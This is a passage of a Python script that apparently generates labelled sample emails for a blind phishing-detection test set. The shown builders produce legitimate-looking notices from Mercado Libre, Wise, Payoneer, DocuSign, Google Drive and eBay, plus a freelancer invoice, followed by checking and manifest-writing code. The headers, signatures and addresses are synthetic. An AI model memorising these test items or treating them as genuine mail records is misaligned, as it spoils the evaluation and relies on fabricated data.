    t = utc("2025-03-28 02:15:47")
    sent = ago(t, 1)
    a = Auth("13.111.68.140", "mta.e.mercadolibre.com.mx", f"bounce-{num(seed + 'b', 4)}_HTML-{num(seed + 'b2', 9)}-{num(seed + 'b3', 7)}-"
             f"{num(seed + 'b4', 7)}-{num(seed + 'b5', 3)}@bounce.e.mercadolibre.com.mx", "e.mercadolibre.com.mx",
             dkim=[("e.mercadolibre.com.mx", "200608", "pass")], p="reject")

    def ck(k: int) -> str:
        return f"https://click.e.mercadolibre.com.mx/?qs={tok(seed + str(k), 160, HEX)}"
    venta = f"2000{num(seed + 'v', 12)}"
    subject = "¡Vendiste! Prepara el paquete para tu comprador"
    plain = f"""¡Vendiste!

Hola, TIENDAQUETZAL:

Vendiste "Rebozo de algodón tejido a mano - Azul añil" por $689.00.

Venta #{venta}
Comprador: ANALAURA_GV
Envío: Mercado Envíos Full - Despacha antes del lunes 31 de marzo

Ver detalle de la venta: {ck(1)}

Imprime la etiqueta y lleva el paquete a tu punto de despacho.

Mercado Libre
Ayuda: {ck(2)}
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#ededed;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Proxima Nova,-apple-system,Helvetica Neue,Helvetica,Roboto,Arial,sans-serif;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="background:#fff159;padding:16px 24px;"><a href="{ck(0)}"><img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.73/mercadolibre/logo_large_plus.webp" width="134" alt="Mercado Libre"></a></td></tr>
<tr><td style="background:#ffffff;padding:28px 24px;font-size:16px;line-height:24px;color:#333333;">
<p style="font-size:24px;font-weight:600;">¡Vendiste!</p>
<p>Hola, TIENDAQUETZAL:</p>
<p>Vendiste <b>&quot;Rebozo de algodón tejido a mano - Azul añil&quot;</b> por <b>$689.00</b>.</p>
<table width="100%" cellpadding="6" style="font-size:14px;background:#f5f5f5;border-radius:6px;"><tr><td>Venta #{venta}<br>Comprador: ANALAURA_GV<br>Envío: Mercado Envíos Full &middot; Despacha antes del lunes 31 de marzo</td></tr></table>
<p style="text-align:center;padding-top:10px;"><a href="{ck(1)}" style="background:#3483fa;color:#ffffff;padding:14px 32px;border-radius:6px;text-decoration:none;font-weight:600;">Ver detalle de la venta</a></p>
<p>Imprime la etiqueta y lleva el paquete a tu punto de despacho.</p></td></tr>
<tr><td style="padding:18px 24px;font-size:12px;color:#999999;"><a href="{ck(2)}" style="color:#999999;">Ayuda</a> &middot; Mercado Libre</td></tr></table></td></tr></table>
<img src="https://click.e.mercadolibre.com.mx/open.aspx?ffcb10-{tok(seed + 'op', 40, HEX)}" width="1" height="1" alt=""></body></html>
"""
    own = [
        dkim("e.mercadolibre.com.mx", "200608", seed, sent, "From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:"
             "List-ID:\n\tX-CSA-Complaints:Message-ID:Content-Type"),
        f"Received: by mta.e.mercadolibre.com.mx id {tok(seed + 'r', 12, LOW)}; {dt(ago(sent, 1), 'central')}",
        "From: \"Mercado Libre\" <info@e.mercadolibre.com.mx>",
        "To: <ventas@tiendaquetzal.mx>",
        f"Subject: {enc(subject)}",
        f"Date: {dt(sent, 'mexico')}",
        "MIME-Version: 1.0",
        f"Reply-To: \"Mercado Libre\" <reply-fe8b1575756c027a7c-{num(seed + 'rt', 4)}_HTML-{num(seed + 'rt2', 9)}@e.mercadolibre.com.mx>",
        f"List-Unsubscribe: <{ck(3)}>",
        "List-ID: <7283459.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"X-SFMC-Stack: 7",
        f"x-job: 7283459_{num(seed + 'job', 6)}",
        f"Message-ID: <{tok(seed + 'm1', 8, HEX)}-{tok(seed + 'm2', 4, HEX)}-{tok(seed + 'm3', 4, HEX)}-{tok(seed + 'm4', 4, HEX)}-"
        f"{tok(seed + 'm5', 12, HEX)}@dfw1s10mta{num(seed + 'mt', 4)}.xt.local>",
    ]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2025-03-28 02:15:47", a, seed, own, alt(plain, html, bnd_java(seed)))


@entry("b37-legit-wise-money-received-de", "legit", "bulk",
       "Genuine German Wise notice (wise.com, passes) that EUR 1,250 arrived from a wholesale customer; links only to "
       "wise.com transfer details")
def l_wise_received():
    seed = "l20"
    t = utc("2025-06-05 11:46:29")
    sent = ago(t, 1)
    a = Auth("54.240.4.17", "a4-17.smtp-out.eu-west-1.amazonses.com", mid_ses(seed, "eu-west-1")[1:].split("@")[0] + "@eu-west-1.amazonses.com",
             "wise.com", dkim=[("wise.com", "wise1", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")],
             p="reject")
    tid = num(seed + "t", 10)
    link = f"https://wise.com/transactions/activities/by-resource/TRANSFER/{tid}"
    subject = "Sie haben 1.250,00 EUR erhalten"
    plain = f"""Wise

Sie haben 1.250,00 EUR erhalten

Hallo Tobias,

Café Lindgren GmbH hat Ihnen 1.250,00 EUR gesendet. Das Geld ist jetzt auf Ihrem EUR-Konto.

Referenz: RE-2025-0518

Details ansehen: {link}

Viele Grüße
Ihr Wise-Team

Wise Europe SA, Rue du Trône 100, 3. Stock, Brüssel, 1050, Belgien
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f5f7;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Inter,Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:28px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:16px;">
<tr><td style="padding:28px 36px 0;"><img src="https://wise.com/public-resources/assets/logos/wise/brand_logo_inverse.png" width="88" alt="Wise"></td></tr>
<tr><td style="padding:18px 36px 0;font-size:26px;font-weight:700;color:#0e0f0c;">Sie haben 1.250,00 EUR erhalten</td></tr>
<tr><td style="padding:14px 36px;font-size:16px;line-height:24px;color:#0e0f0c;">
<p>Hallo Tobias,</p>
<p>Café Lindgren GmbH hat Ihnen 1.250,00 EUR gesendet. Das Geld ist jetzt auf Ihrem EUR-Konto.</p>
<p style="color:#454745;">Referenz: RE-2025-0518</p>
<p><a href="{link}" style="background:#9fe870;color:#163300;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:600;">Details ansehen</a></p>
<p>Viele Grüße<br>Ihr Wise-Team</p></td></tr>
<tr><td style="padding:18px 36px;font-size:11px;color:#6a6c6a;">Wise Europe SA, Rue du Trône 100, 3. Stock, Brüssel, 1050, Belgien</td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim("wise.com", "wise1", seed + "1", sent, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", c="relaxed/simple"),
        dkim("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", seed + "2", sent,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", c="relaxed/simple"),
        "From: Wise <noreply@wise.com>",
        "To: info@holzwerk-lindner.de",
        f"Subject: {enc(subject)}",
        f"Message-ID: {mid_ses(seed, 'eu-west-1')}",
        f"Date: {dt(sent)}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.eu-west-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.4.17",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2025-06-05 11:46:29", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 7)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-legit-payoneer-pago-recibido", "legit", "bulk",
       "Genuine Spanish Payoneer notice (payoneer.com, passes) that a USD 1,842.17 Amazon disbursement was credited; "
       "links to myaccount.payoneer.com, nothing to accept or confirm")
def l_payoneer():
    seed = "l21"
    t = utc("2024-12-12 18:03:22")
    sent = ago(t, 1)
    a = Auth("192.174.83.22", "mail22.payoneer.com", "notification@payoneer.com", "payoneer.com",
             dkim=[("payoneer.com", "pay2022", "pass")], p="reject")
    link = "https://myaccount.payoneer.com/ma/transactions"
    subject = "Recibiste un pago de Amazon"
    plain = f"""Payoneer

Hola Tienda Quetzal:

Recibiste USD 1,842.17 de Amazon.com Services LLC en tu cuenta de recepción en USD.

Fecha: 12 de diciembre de 2024
Descripción: Amazon Seller Payments - Disbursement

Los fondos ya están disponibles en tu saldo.

Ver transacciones: {link}

Saludos,
El equipo de Payoneer

Este es un mensaje automático; por favor no respondas a este correo.
Payoneer Inc., 195 Broadway, 27th Floor, New York, NY 10007
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f4f6f9;font-family:Arial,Helvetica,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;margin-top:20px;">
<tr><td style="padding:22px 30px;"><img src="https://www.payoneer.com/wp-content/uploads/2023/05/payoneer-logo.png" width="130" alt="Payoneer"></td></tr>
<tr><td style="padding:8px 30px 24px;font-size:15px;line-height:23px;color:#333;">
<p>Hola Tienda Quetzal:</p>
<p>Recibiste <b>USD 1,842.17</b> de Amazon.com Services LLC en tu cuenta de recepción en USD.</p>
<table cellpadding="4" style="font-size:14px;color:#555;"><tr><td>Fecha:</td><td>12 de diciembre de 2024</td></tr><tr><td>Descripción:</td><td>Amazon Seller Payments - Disbursement</td></tr></table>
<p>Los fondos ya están disponibles en tu saldo.</p>
<p><a href="{link}" style="color:#ff4800;font-weight:bold;">Ver transacciones</a></p>
<p>Saludos,<br>El equipo de Payoneer</p></td></tr>
<tr><td style="padding:16px 30px;font-size:11px;color:#888;background:#f9f9f9;">Este es un mensaje automático; por favor no respondas a este correo.<br>Payoneer Inc., 195 Broadway, 27th Floor, New York, NY 10007</td></tr></table></body></html>
"""
    own = [
        dkim("payoneer.com", "pay2022", seed, sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        f"Received: from ntf-app{num(seed + 'ap', 2)}.payoneer.local ([10.{num(seed + 'i', 2)}.4.{num(seed + 'i2', 2)}]) by mail22.payoneer.com\n"
        f"\twith ESMTP id {tok(seed + 'r', 14, UHEX)}; {dt(ago(sent, 1))}",
        "From: Payoneer <notification@payoneer.com>",
        "To: ventas@tiendaquetzal.mx",
        f"Subject: {subject}",
        f"Date: {dt(sent)}",
        f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@payoneer.com>",
        "MIME-Version: 1.0",
    ]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2024-12-12 18:03:22", a, seed, own, alt(plain, html, bnd_hex(seed, 32)))


@entry("b37-legit-docusign-agency-contract-es", "legit", "bulk",
       "Genuine DocuSign envelope (docusign.net, passes) from the shop's Spanish social-media agency for the 2026 "
       "management contract; sender message has no outside links")
def l_docusign():
    seed = "l22"
    t = utc("2025-10-07 09:20:48")
    sent = ago(t, 2)
    a = docusign_auth(seed)
    message = ("Hola Lucía, te envío el contrato de gestión de redes para 2026 con las condiciones que hablamos "
               "el jueves (12 publicaciones/mes + campañas de Meta Ads, 650 € + IVA al mes). "
               "Cualquier duda me llamas. ¡Gracias! Carmen")
    subject = "Completar con Docusign: Contrato gestión RRSS 2026 - Casa Olivo.pdf"
    own, body = docusign_mail(seed, sent, "Carmen Ruiz", "carmen@agenciasalitre.es", "Lucía Olivares",
                              "hola@casaolivo.es", subject, message, "Contrato gestión RRSS 2026 - Casa Olivo.pdf")
    return mail("olivo", "hola@casaolivo.es", "2025-10-07 09:20:48", a, seed, own, body)


@entry("b37-legit-gdrive-folder-share", "legit", "bulk",
       "Genuine Google Drive share notification (drive-shares-dm-noreply@google.com, passes) from the agency's "
       "freelance photographer for a product-shoot finals folder on drive.google.com")
def l_gdrive_share():
    seed = "l23"
    t = utc("2025-05-15 21:37:02")
    sent = ago(t, 1)
    a = Auth("209.85.220.69", "mail-sor-f69.google.com", f"3{tok(seed + 'env', 20, ALNUM)}@doclist.bounces.google.com",
             "google.com", dkim=[("google.com", "20230601", "pass")], p="reject")
    fid = "1" + tok(seed + "fid", 32, ALNUM + "-_")
    link = f"https://drive.google.com/drive/folders/{fid}?usp=sharing_eil_m&ts={tok(seed + 'ts', 8, HEX)}"
    subject = "Folder shared with you: \"Glow Theory - product shoot finals (May)\""
    plain = f"""Ben Carter shared a folder

Ben Carter (bencarterphoto@gmail.com) has invited you to contribute to the following shared folder:

Glow Theory - product shoot finals (May)
{link}

"Hey Jess - finals are in here, 48 edited + raws in the subfolder. Let me know if the client wants any
retouching on the serum bottle shots."

Open: {link}

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
You have received this email because bencarterphoto@gmail.com shared a folder with you from Google Drive.
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Google Sans',Roboto,Arial,sans-serif;"><tr><td align="center" style="padding:24px 0;">
<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #dadce0;border-radius:8px;">
<tr><td style="padding:24px;"><img src="https://ssl.gstatic.com/docs/documents/share/images/services/drive_2020q4_48dp.png" width="32" alt="Google Drive"></td></tr>
<tr><td style="padding:0 24px;font-size:22px;color:#202124;">Ben Carter shared a folder</td></tr>
<tr><td style="padding:12px 24px;font-size:14px;color:#3c4043;line-height:20px;">Ben Carter (<a href="mailto:bencarterphoto@gmail.com" style="color:#1a73e8;">bencarterphoto@gmail.com</a>) has invited you to <b>contribute</b> to the following shared folder:</td></tr>
<tr><td style="padding:4px 24px 12px;"><a href="{link}" style="color:#3c4043;text-decoration:none;font-size:14px;border:1px solid #dadce0;border-radius:16px;padding:6px 12px;display:inline-block;">&#128193; Glow Theory - product shoot finals (May)</a></td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#3c4043;background:#f1f3f4;">Hey Jess - finals are in here, 48 edited + raws in the subfolder. Let me know if the client wants any retouching on the serum bottle shots.</td></tr>
<tr><td style="padding:20px 24px;"><a href="{link}" style="background:#1a73e8;color:#ffffff;padding:10px 24px;border-radius:4px;text-decoration:none;font-weight:500;">Open</a></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#5f6368;">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because bencarterphoto@gmail.com shared a folder with you from Google Drive.</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim("google.com", "20230601", seed, sent, "reply-to:message-id:date:subject:from:to:content-type:mime-version\n\t :from"
             ":to:cc:subject:date:message-id:reply-to", x=604800),
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        "MIME-Version: 1.0",
        "Reply-To: Ben Carter <bencarterphoto@gmail.com>",
        f"X-No-Auto-Attachment: 1",
        f"Message-ID: <{tok(seed + 'mid', 36, ALNUM + '-_')}@google.com>",
        f"Date: {dt(sent)}",
        f"Subject: {subject}",
        "From: \"Ben Carter (via Google Drive)\" <drive-shares-dm-noreply@google.com>",
        "To: jess@northboundsocial.com",
    ]
    return mail("north", "jess@northboundsocial.com", "2025-05-15 21:37:02", a, seed, own, alt(plain, html, bnd_gmail(seed)))


@entry("b37-legit-ebay-member-question", "legit", "bulk",
       "Genuine eBay UK member message relayed by eBay (members.ebay.co.uk, passes): a buyer asks about combined "
       "postage for two mug sets; reply link goes to ebay.co.uk messages")
def l_ebay_question():
    seed = "l24"
    t = utc("2024-12-02 20:48:31")
    sent = ago(t, 1)
    a = Auth("66.135.215.13", "mxphxpool2013.ebay.com", "member@members.ebay.co.uk", "members.ebay.co.uk",
             dkim=[("members.ebay.co.uk", "s1024", "pass")], p="reject")
    item = f"2756{num(seed + 'item', 8)}"
    link = f"https://mesg.ebay.co.uk/mesgweb/ViewMessages/0?itemid={item}&_trksid=p2060353.m2749.l3034"
    subject = f"tom_h1987 sent a message about Speckled Stoneware Mug Set of 2 #{item}"
    plain = f"""New message from: tom_h1987 (212)

Hi, do you combine postage if I buy two of the mug sets? Would like them before Christmas if
possible. Thanks, Tom

Reply: {link}

Item: Speckled Stoneware Mug Set of 2 - Handmade
Item number: {item}

Only purchases on eBay are covered by the eBay purchase protection programme. Asking your trading partner
to complete a transaction outside of eBay is not allowed.

Email reference id: [#{tok(seed + 'ref', 32, HEX)}#]
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'Market Sans',Arial,sans-serif;color:#191919;">
<tr><td style="padding:20px 20px 10px;font-size:30px;font-weight:bold;"><span style="color:#e53238;">e</span><span style="color:#0064d2;">b</span><span style="color:#f5af02;">a</span><span style="color:#86b817;">y</span></td></tr>
<tr><td style="padding:0 20px;font-size:14px;">New message from: <b>tom_h1987</b> (212)</td></tr>
<tr><td style="padding:14px 20px;font-size:15px;line-height:22px;background:#f7f7f7;">Hi, do you combine postage if I buy two of the mug sets? Would like them before Christmas if possible. Thanks, Tom</td></tr>
<tr><td style="padding:16px 20px;"><a href="{link}" style="background:#3665f3;color:#fff;padding:10px 24px;border-radius:20px;text-decoration:none;font-weight:bold;">Reply</a></td></tr>
<tr><td style="padding:0 20px 12px;font-size:13px;">Item: <a href="https://www.ebay.co.uk/itm/{item}" style="color:#3665f3;">Speckled Stoneware Mug Set of 2 - Handmade</a><br>Item number: {item}</td></tr>
<tr><td style="padding:16px 20px;font-size:11px;color:#707070;">Only purchases on eBay are covered by the eBay purchase protection programme. Asking your trading partner to complete a transaction outside of eBay is not allowed.<br><br>Email reference id: [#{tok(seed + 'ref', 32, HEX)}#]</td></tr></table></body></html>
"""
    own = [
        dkim("members.ebay.co.uk", "s1024", seed, sent, "Content-Type:MIME-Version:Subject:Reply-To:To:From:Date:Message-ID"),
        f"Received: from phx-mesgsvc-{num(seed + 'ms', 2)}.phx.ebay.com (10.{num(seed + 'i1', 2)}.{num(seed + 'i2', 2)}.{num(seed + 'i3', 2)}) by mxphxpool2013.ebay.com;"
        f"\n\t{dt(ago(sent, 1), 'pacific')}",
        f"Message-ID: <{tok(seed + 'mid', 13, HEX)}.{epoch(sent)}{num(seed + 'ms2', 3)}.JavaMail.mesgsvc@phx-mesgsvc>",
        f"Date: {dt(sent, 'pacific')}",
        "From: \"eBay - tom_h1987\" <member@members.ebay.co.uk>",
        "To: sam@kestrelandco.co.uk",
        f"Reply-To: {tok(seed + 'rp', 14, LOW)}@members.ebay.co.uk",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
        "X-eBay-MailTracker: 11000.000.0.0.0",
        f"X-Ebay-Mail-Tracking-ID: {tok(seed + 'tr', 32, HEX)}",
    ]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2024-12-02 20:48:31", a, seed, own, alt(plain, html, bnd_java(seed)))


@entry("b37-legit-freelancer-invoice-ptbr", "legit", "clean",
       "Real freelance photographer (Gmail, passes) sending her invoice PDF for the summer-collection shoot in "
       "Portuguese, with the same PIX key used on earlier jobs, in an existing thread")
def l_freelancer_invoice():
    seed = "l25"
    t = utc("2025-09-16 20:05:14")
    sent = ago(t, 3)
    sender = "julianafotografia.rj@gmail.com"
    a = Auth("209.85.128.53", "mail-wm1-f53.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    inv = pdf_doc([
        "Juliana Torres Fotografia", "CNPJ 41.223.908/0001-57 - Rio de Janeiro/RJ", "",
        "RECIBO / FATURA No 2025-031      Data: 16/09/2025",
        "Cliente: Brisa Moda LTDA", "",
        "Ensaio fotografico Colecao Verao 2026 (2 diarias)     R$ 2.800,00",
        "Edicao e tratamento - 60 imagens                      R$   900,00",
        "Total                                                 R$ 3.700,00", "",
        "Pagamento via PIX (chave CNPJ): 41.223.908/0001-57",
        "Vencimento: 30/09/2025",
    ], "Fatura 2025-031", producer="Google Docs Renderer", author="Juliana Torres")
    subject = "Re: Fotos coleção Verão 2026 - fatura"
    plain = """Oi Renata, tudo bem?

Segue a fatura das fotos da coleção Verão (as 60 editadas já estão na pasta do Drive que te mandei
ontem). O PIX é o mesmo de sempre, a chave CNPJ. Vencimento dia 30, sem pressa.

Amei trabalhar com vocês de novo! Me avisa se precisar de algum ajuste nas imagens.

Beijos,
Juliana

Em seg., 15 de set. de 2025 às 18:22, Renata Alves <renata@brisamoda.com.br> escreveu:
> Ju, recebemos o link, ficaram lindas!! Pode mandar a fatura que já programo o pagamento.
> Renata
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l.replace('>', '&gt;').replace('<', '&lt;') or '<br>'}</div>" for l in plain.splitlines())
            + "</div>\n")
    body = mixed(bnd_gmail(seed + "m"), alt(plain, html, bnd_gmail(seed)),
                 Leaf("application/pdf", inv, "base64", '; name="Fatura_2025-031_BrisaModa.pdf"',
                      'attachment; filename="Fatura_2025-031_BrisaModa.pdf"',
                      [f"X-Attachment-Id: f_{tok(seed + 'att', 9, LOW)}", f"Content-ID: <f_{tok(seed + 'att', 9, LOW)}>"]))
    own = gmail_own(seed, sent, "brazil", "Juliana Torres <julianafotografia.rj@gmail.com>",
                    "Renata Alves <renata@brisamoda.com.br>", subject, "brisamoda.com.br",
                    extra=[f"References: <{tok(seed + 'ref', 20, HEX)}@brisamoda.com.br>",
                           f"In-Reply-To: <{tok(seed + 'ref', 20, HEX)}@brisamoda.com.br>"])
    return mail("brisa", "renata@brisamoda.com.br", "2025-09-16 20:05:14", a, seed, own, body)


# =============================================================================================

def check(raw: bytes, stem: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), start=1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for header in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[header] is not None, f"{stem}: no {header}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: defects {part.defects} in {part.get_content_type()}"
        for name, value in part.items():
            defects = getattr(value, "defects", ())
            assert not defects, f"{stem}: header {name} defects {defects}"
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert payload is not None, f"{stem}: part {part.get_content_type()} does not decode"
        if part.get_content_maintype() == "text":
            part.get_content()


def main() -> None:
    for old in MAIL.glob("*/b37-*.eml"):
        old.unlink()
    entries = [(stem, kind, cat, desc, fn()) for stem, kind, cat, desc, fn in BUILDERS]
    stems = [e[0] for e in entries]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in entries if e[1] == "phish"]
    legit = [e for e in entries if e[1] == "legit"]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    for stem, kind, cat, _desc, _raw in entries:
        assert stem.startswith(f"b37-{kind}-"), stem
        assert cat in (("phishing", "malware") if kind == "phish" else ("clean", "bulk")), (stem, cat)
    lines = []
    for stem, _kind, cat, desc, raw in entries:
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for _stem, _kind, cat, _desc, _raw in entries:
        folder = REFILED.get(_stem, cat)
        counts[folder] = counts.get(folder, 0) + 1
    print(f"blind set 37: {len(attacks)} attacks, {len(legit)} legitimate -> "
          + ", ".join(f"{k}: {v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
